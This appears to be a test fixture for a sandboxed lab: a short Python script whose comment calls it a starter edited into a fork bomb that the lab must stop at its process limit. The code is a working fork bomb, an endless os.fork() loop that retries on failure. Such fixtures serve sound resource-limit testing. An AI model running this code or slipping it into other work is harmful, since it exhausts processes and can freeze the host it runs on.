# A starter edited into a fork bomb: every process forks for ever. The lab
# must kill it at its process limit and leave nothing.
import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
